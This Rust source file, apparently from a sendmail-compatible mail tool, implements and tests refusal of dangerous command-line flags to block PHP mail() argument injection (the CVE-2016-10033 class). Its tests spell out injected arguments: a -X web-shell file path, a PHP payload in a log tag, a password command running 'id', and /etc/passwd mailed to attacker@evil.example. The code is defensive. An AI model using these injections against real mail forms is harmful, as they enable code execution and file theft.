//! The sendmail name is not a code-execution surface.
//!
//! `/usr/sbin/sendmail` is called by PHP's `mail()`, whose fifth argument
//! often carries a web form's address through `escapeshellcmd` only: an
//! address of `x@y.org -X/var/www/s.php` becomes two arguments (the
//! CVE-2016-10033 class). So when smtpsend runs under a sendmail name
//! (`sendmail`, `mailq`, `newaliases`, indeed any name but `smtpsend`), or
//! under every name when the system configuration sets
//! `restrict_args = true`, no argument may make it run a command, write a
//! file at a path the caller chooses, read a file the caller chooses into
//! a message, load a configuration from outside the system's, or send the
//! system's credentials somewhere else:
//!
//! | flag | what it could do | restricted command line |
//! |------|------------------|-------------------------|
//! | `-X FILE`, `--log-file FILE` | write a file at a chosen path | ignored, as Postfix ignores `-X` |
//! | `--file FILE` | mail a chosen file | refused |
//! | `--password-command CMD` | run a command | refused |
//! | `-C FILE` | load a chosen configuration | refused, unless FILE lies in one of `allow_config_dirs` (as Postfix's `alternate_config_directories`) |
//! | `--host`, `--port` | send the configured credentials to a chosen server | refused |
//! | `--tls`, `--tls-verify`, `--tls-ca-file` | weaken TLS for the configured credentials; read a chosen file | refused |
//! | `--auth`, `--user` | send the configured password another way or for another user | refused |
//! | `-L TAG` | put chosen text in the log | letters, digits and `. _ - /` only |
//!
//! A flag in `allow_args` (written as in the table: `"--host"`, `"-X"`)
//! is allowed after all; `-C` is governed by `allow_config_dirs` alone.
//! Everything else sendmail callers pass (`-t -i -f -F -o* -B -N -R -V -b*
//! -q -v -L`, `-a`, `--timeout`, `--dry-run`...) stays: none of it runs,
//! writes or reads anything the caller names.
//!
//! Under every name, an envelope sender or recipient on the command line
//! may not begin with `-` (as Postfix's default `allow_min_user = no`): a
//! value like `-f "-X/tmp/x"` is an injected flag, never an address.
//!
//! Refusals are one line and EX_USAGE (64), before anything is read or
//! sent. The rules come from the system configuration
//! ([`crate::config::system_config_path`]); when it is absent or the
//! caller may not read it, nothing is allowed beyond the defaults and
//! `restrict_args` counts as unset (so the file must be readable by the
//! callers it is meant to restrict). When it is invalid or untrusted and
//! the rules matter (a restricted flag under a sendmail name; always under
//! the name smtpsend, whose rules hang on `restrict_args`), its error is
//! the refusal (EX_CONFIG, 78): an unknown policy is not guessed.

use std::ffi::OsStr;
use std::fmt;
use std::path::{Path, PathBuf};

use super::Args;
use crate::config::{ArgPolicy, Config, ConfigError, flag};
use crate::exit::Sysexit;

/// The one name that keeps every flag (unless `restrict_args`).
pub const UNRESTRICTED_NAME: &str = "smtpsend";

/// The longest `-L` tag a restricted command line may give.
pub const MAX_TAG_LEN: usize = 64;

/// What a restricted command line does with a flag.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Rule {
    /// Refused with exit 64, naming why.
    Refuse,
    /// Dropped without a word, as sendmail implementations do.
    Ignore,
}

/// One restricted flag.
struct Flag {
    /// Its spellings; the first is the one messages and `allow_args` use.
    names: &'static [&'static str],
    rule: Rule,
    /// What it could make smtpsend do for whoever writes the arguments.
    danger: &'static str,
    given: fn(&Args) -> bool,
    drop: fn(&mut Args),
}

/// Every restricted flag but `-C`, which has its own rule.
const FLAGS: &[Flag] = &[
    Flag {
        names: flag::LOG_FILE,
        rule: Rule::Ignore,
        danger: "writes a file at a path the caller chooses",
        given: |a| a.log_file.is_some(),
        drop: |a| a.log_file = None,
    },
    Flag {
        names: flag::FILE,
        rule: Rule::Refuse,
        danger: "would mail a file the caller chooses",
        given: |a| a.file.is_some(),
        drop: |a| a.file = None,
    },
    Flag {
        names: flag::PASSWORD_COMMAND,
        rule: Rule::Refuse,
        danger: "would run a command",
        given: |a| a.password_command.is_some(),
        drop: |a| a.password_command = None,
    },
    Flag {
        names: flag::HOST,
        rule: Rule::Refuse,
        danger: "would send the configured credentials to a server the caller chooses",
        given: |a| a.host.is_some(),
        drop: |a| a.host = None,
    },
    Flag {
        names: flag::PORT,
        rule: Rule::Refuse,
        danger: "would send the configured credentials to a server the caller chooses",
        given: |a| a.port.is_some(),
        drop: |a| a.port = None,
    },
    Flag {
        names: flag::TLS,
        rule: Rule::Refuse,
        danger: "could turn off the protection of the configured credentials",
        given: |a| a.tls.is_some(),
        drop: |a| a.tls = None,
    },
    Flag {
        names: flag::TLS_VERIFY,
        rule: Rule::Refuse,
        danger: "could turn off the relay's certificate check",
        given: |a| a.tls_verify.is_some(),
        drop: |a| a.tls_verify = None,
    },
    Flag {
        names: flag::TLS_CA_FILE,
        rule: Rule::Refuse,
        danger: "would read a file the caller chooses and trust it for the relay",
        given: |a| a.tls_ca_file.is_some(),
        drop: |a| a.tls_ca_file = None,
    },
    Flag {
        names: flag::AUTH,
        rule: Rule::Refuse,
        danger: "would change how the configured credentials are sent",
        given: |a| a.auth.is_some(),
        drop: |a| a.auth = None,
    },
    Flag {
        names: flag::USER,
        rule: Rule::Refuse,
        danger: "would send the configured password for another user",
        given: |a| a.user.is_some(),
        drop: |a| a.user = None,
    },
];

/// Why a command line was refused: one line, and its exit code (EX_USAGE
/// for a refused argument, EX_CONFIG for a system file that cannot say
/// what is allowed).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub exit: Sysexit,
    pub message: String,
}

impl Refusal {
    fn usage(message: String) -> Refusal {
        Refusal {
            exit: Sysexit::Usage,
            message,
        }
    }

    /// The exit code.
    pub fn exit(&self) -> Sysexit {
        self.exit
    }
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

/// The program's name as invoked, if it is not `smtpsend`: the name the
/// sendmail rules apply under.
pub fn restricted_name(argv0: &OsStr) -> Option<String> {
    let name = Path::new(argv0)
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    (name != UNRESTRICTED_NAME).then(|| {
        if name.is_empty() {
            "sendmail".into()
        } else {
            name
        }
    })
}

/// Applies the rules to a parsed command line, reading the system
/// configuration only when a restricted flag was given or the name is
/// `smtpsend` (whose restriction depends on `restrict_args`).
pub fn apply(argv0: &OsStr, args: &mut Args) -> Result<(), Refusal> {
    check_addresses(args)?;
    let name = restricted_name(argv0);
    if name.is_some() && !uses_restricted(args) {
        return Ok(());
    }
    let path = crate::config::system_config_path();
    let policy = system_policy(&path).map_err(|e| Refusal {
        exit: e.kind(),
        message: e.to_string(),
    })?;
    let why = match name {
        Some(n) => Why::Name(n),
        None if policy.restrict_args => Why::RestrictArgs,
        None => return Ok(()),
    };
    apply_with(&why, &policy, &path, args)
}

/// Why the rules apply.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Why {
    /// Invoked under this name.
    Name(String),
    /// The system configuration sets `restrict_args`.
    RestrictArgs,
}

/// The rules with the policy and the system file's path (for messages)
/// given: drops the ignored flags, refuses the rest.
pub fn apply_with(
    why: &Why,
    policy: &ArgPolicy,
    system: &Path,
    args: &mut Args,
) -> Result<(), Refusal> {
    check_addresses(args)?;
    let when = match why {
        Why::Name(n) => format!("when smtpsend runs as {n}"),
        Why::RestrictArgs => format!("because {} sets restrict_args", system.display()),
    };
    for flag in FLAGS {
        if !(flag.given)(args)
            || flag
                .names
                .iter()
                .any(|n| policy.allow_args.iter().any(|a| a == n))
        {
            continue;
        }
        match flag.rule {
            Rule::Ignore => (flag.drop)(args),
            Rule::Refuse => {
                return Err(Refusal::usage(format!(
                    "{} is refused {when}: it {} (the system configuration can allow it: \
                     allow_args = [\"{}\"] in {})",
                    flag.names[0],
                    flag.danger,
                    flag.names[0],
                    system.display()
                )));
            }
        }
    }
    if let Some(file) = &args.config
        && !in_allowed_dir(file, &policy.allow_config_dirs)
    {
        return Err(Refusal::usage(format!(
            "-C {} is refused {when}: it would load a configuration the caller chooses \
             (the system configuration can allow a directory: allow_config_dirs = [\"DIR\"] in {})",
            file.display(),
            system.display()
        )));
    }
    if let Some(tag) = &args.log_tag
        && !plain_tag(tag)
    {
        return Err(Refusal::usage(format!(
            "-L {tag:?} is refused {when}: a log tag may hold only letters, digits and . _ - / \
             (at most {MAX_TAG_LEN})"
        )));
    }
    Ok(())
}

/// No envelope address from the command line begins with `-`, under any
/// name: such a value is a flag that lost its way (or was injected).
fn check_addresses(args: &Args) -> Result<(), Refusal> {
    for (flag, v) in [("-f", &args.from), ("--from", &args.from_long)] {
        if let Some(v) = v
            && v.starts_with('-')
        {
            return Err(Refusal::usage(format!(
                "{flag} {v:?}: an envelope sender cannot begin with \"-\" (it looks like a flag: \
                 is the address missing?)"
            )));
        }
    }
    if let Some(r) = args.recipients.iter().find(|r| r.starts_with('-')) {
        return Err(Refusal::usage(format!(
            "recipient {r:?} begins with \"-\": refused, as Postfix refuses it (a flag where an \
             address was expected?)"
        )));
    }
    Ok(())
}

fn uses_restricted(args: &Args) -> bool {
    FLAGS.iter().any(|f| (f.given)(args))
        || args.config.is_some()
        || args.log_tag.as_deref().is_some_and(|t| !plain_tag(t))
}

fn plain_tag(tag: &str) -> bool {
    !tag.is_empty()
        && tag.len() <= MAX_TAG_LEN
        && tag
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'/'))
}

/// Whether `file` lies directly in one of `dirs`, both resolved (a link
/// cannot smuggle a file in; the loaded file is then trust-checked as any
/// other).
fn in_allowed_dir(file: &Path, dirs: &[PathBuf]) -> bool {
    let Some(parent) = std::fs::canonicalize(file)
        .ok()
        .and_then(|f| f.parent().map(Path::to_path_buf))
    else {
        return false;
    };
    dirs.iter()
        .filter_map(|d| std::fs::canonicalize(d).ok())
        .any(|d| d == parent)
}

/// The system file's policy: the defaults when it is absent or this
/// caller may not read it, an error when it is invalid or untrusted.
fn system_policy(path: &Path) -> Result<ArgPolicy, ConfigError> {
    match Config::load(path) {
        Ok(c) => Ok(c.arg_policy().clone()),
        Err(ConfigError::Read { source, .. })
            if matches!(
                source.kind(),
                std::io::ErrorKind::NotFound | std::io::ErrorKind::PermissionDenied
            ) =>
        {
            Ok(ArgPolicy::default())
        }
        Err(e) => Err(e),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::check_allowable;

    /// The rules cover exactly the flags the configuration's
    /// `allow_args` vocabulary names, each once.
    #[test]
    fn the_rules_cover_every_restricted_flag_once() {
        let ours: Vec<&[&str]> = FLAGS.iter().map(|f| f.names).collect();
        assert_eq!(ours, flag::ALL);
    }
    use clap::Parser;
    use std::ffi::OsString;

    fn args(argv: &[&str]) -> Args {
        let argv = std::iter::once("sendmail")
            .chain(argv.iter().copied())
            .map(OsString::from);
        Args::try_parse_from(super::super::normalize(argv)).unwrap()
    }

    const SYS: &str = "/etc/smtpsend.toml";

    fn sendmail(argv: &[&str], policy: &ArgPolicy) -> Result<Args, String> {
        let mut a = args(argv);
        apply_with(
            &Why::Name("sendmail".into()),
            policy,
            Path::new(SYS),
            &mut a,
        )
        .map(|()| a)
        .map_err(|r| {
            assert_eq!(r.exit(), Sysexit::Usage);
            r.message
        })
    }

    #[test]
    fn names() {
        assert_eq!(restricted_name("smtpsend".as_ref()), None);
        assert_eq!(restricted_name("/usr/bin/smtpsend".as_ref()), None);
        for n in [
            "sendmail",
            "/usr/sbin/sendmail",
            "mailq",
            "newaliases",
            "sendmail.smtpsend",
            "x",
        ] {
            assert!(restricted_name(n.as_ref()).is_some(), "{n}");
        }
        assert_eq!(
            restricted_name("/usr/lib/sendmail".as_ref()).as_deref(),
            Some("sendmail")
        );
        assert_eq!(restricted_name("".as_ref()).as_deref(), Some("sendmail"));
    }

    #[test]
    fn the_php_injections() {
        let none = ArgPolicy::default();
        // mail(..., "-fx@y.org -X/var/www/s.php -L<?=`id`?>") after
        // escapeshellcmd: -X is dropped, the tag refused.
        let e = sendmail(
            &["-t", "-i", "-fx@y.org", "-X/var/www/s.php", "-L<?=`id`?>"],
            &none,
        )
        .unwrap_err();
        assert!(
            e.starts_with("-L \"<?=`id`?>\" is refused when smtpsend runs as sendmail"),
            "{e}"
        );
        let a = sendmail(&["-t", "-i", "-fx@y.org", "-X/var/www/s.php"], &none).unwrap();
        assert_eq!(a.log_file, None);
        assert_eq!(a.sender(), Some("x@y.org"));
        let e = sendmail(
            &["-t", "-i", "-fx@y.org", "--password-command=id>/tmp/p"],
            &none,
        )
        .unwrap_err();
        assert_eq!(
            e,
            "--password-command is refused when smtpsend runs as sendmail: it would run a \
             command (the system configuration can allow it: allow_args = [\"--password-command\"] \
             in /etc/smtpsend.toml)"
        );
        let e = sendmail(
            &[
                "-t",
                "-i",
                "-fx@y.org",
                "--file=/etc/passwd",
                "attacker@evil.example",
            ],
            &none,
        )
        .unwrap_err();
        assert!(e.starts_with("--file is refused"), "{e}");
        let e = sendmail(&["-t", "-i", "-f", "-X/tmp/x"], &none).unwrap_err();
        assert!(
            e.starts_with("-f \"-X/tmp/x\": an envelope sender cannot begin"),
            "{e}"
        );
        let e = sendmail(&["-i", "--", "-oQ/tmp@x"], &none).unwrap_err();
        assert!(e.starts_with("recipient \"-oQ/tmp@x\" begins with"), "{e}");
    }

    #[test]
    fn every_restricted_flag() {
        let none = ArgPolicy::default();
        for argv in [
            &["--host", "evil.example"][..],
            &["--port", "2525"],
            &["--tls", "none"],
            &["--tls-verify", "false"],
            &["--tls-ca-file", "/tmp/ca.pem"],
            &["--auth", "plain"],
            &["--user", "bob"],
            &["--password-command", "id"],
            &["--file", "/etc/passwd"],
            &["-C", "/tmp/evil.toml"],
        ] {
            let e = sendmail(argv, &none).unwrap_err();
            assert!(e.starts_with(&format!("{} ", argv[0])), "{e}");
            assert!(
                e.contains("is refused when smtpsend runs as sendmail"),
                "{e}"
            );
            assert!(e.contains(SYS), "{e}");
        }
        // The everyday flags of cron, mailx, mutt, git and PHP pass.
        for argv in [
            &["-FCronDaemon", "-i", "-B8BITMIME", "-oem", "root"][..],
            &["-oi", "-oem", "--", "a@example.org"],
            &["-t", "-i", "-f", "php@example.org"],
            &["-bs"],
            &["-bp"],
            &["-q"],
            &[
                "-v",
                "-Ltag.1",
                "-N",
                "never",
                "-a",
                "work",
                "--timeout",
                "5",
                "x@y",
            ],
            &["-f", "", "root"],
        ] {
            let a = sendmail(argv, &none).unwrap();
            assert_eq!(a.log_file, None);
        }
    }

    #[test]
    fn the_system_configuration_allows() {
        let dir = tempfile::tempdir().unwrap();
        let allowed = dir.path().join("conf.d");
        std::fs::create_dir(&allowed).unwrap();
        std::fs::write(allowed.join("a.toml"), "").unwrap();
        std::fs::write(dir.path().join("b.toml"), "").unwrap();
        std::os::unix::fs::symlink(dir.path().join("b.toml"), allowed.join("link.toml")).unwrap();
        let policy = ArgPolicy {
            restrict_args: false,
            allow_args: vec!["--host".into(), "-X".into()],
            allow_config_dirs: vec![allowed.clone()],
        };
        let a = sendmail(
            &["--host", "relay.example", "-X", "/var/log/x", "r@x"],
            &policy,
        )
        .unwrap();
        assert_eq!(a.host.as_deref(), Some("relay.example"));
        assert!(a.log_file.is_some());
        let a = sendmail(&["--log-file", "/var/log/x", "r@x"], &policy).unwrap();
        assert!(a.log_file.is_some());
        let c = allowed.join("a.toml");
        assert!(sendmail(&["-C", c.to_str().unwrap()], &policy).is_ok());
        // Not in the directory, or only through a link in it.
        let b = dir.path().join("b.toml");
        assert!(sendmail(&["-C", b.to_str().unwrap()], &policy).is_err());
        let l = allowed.join("link.toml");
        assert!(sendmail(&["-C", l.to_str().unwrap()], &policy).is_err());
        let dotdot = allowed.join("../b.toml");
        assert!(sendmail(&["-C", dotdot.to_str().unwrap()], &policy).is_err());
        // Whoever runs it: root has the name smtpsend for -C.
        assert!(sendmail(&["-C", b.to_str().unwrap()], &ArgPolicy::default()).is_err());
        // Still refused: what the list does not name.
        assert!(sendmail(&["--password-command", "id"], &policy).is_err());
    }

    #[test]
    fn restrict_args_says_so() {
        let mut a = args(&["--password-command", "id"]);
        let e = apply_with(
            &Why::RestrictArgs,
            &ArgPolicy::default(),
            Path::new(SYS),
            &mut a,
        )
        .unwrap_err();
        assert!(
            e.message.starts_with(
                "--password-command is refused because /etc/smtpsend.toml sets restrict_args"
            ),
            "{e}"
        );
    }

    #[test]
    fn allow_args_entries() {
        assert!(check_allowable("--host").is_ok());
        assert!(check_allowable("-X").is_ok());
        assert!(check_allowable("--log-file").is_ok());
        assert!(
            check_allowable("-C")
                .unwrap_err()
                .contains("allow_config_dirs")
        );
        let e = check_allowable("--hots").unwrap_err();
        assert!(e.contains("--host, --port"), "{e}");
    }
}
